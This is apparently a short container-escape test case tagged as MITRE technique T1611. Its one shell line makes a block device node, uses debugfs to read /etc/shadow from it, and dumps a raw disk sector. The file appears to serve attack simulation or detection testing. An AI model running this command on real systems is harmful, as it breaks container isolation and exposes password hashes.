# title: A container makes a node of the host's disk and reads from it
# technique: T1611
# needs: debugfs
# in: container
# disk: yes

mknod /tmp/d b 7 99; debugfs -R 'cat /etc/shadow' /tmp/d 2>/dev/null; dd if=/tmp/d bs=512 count=1 2>/dev/null; true
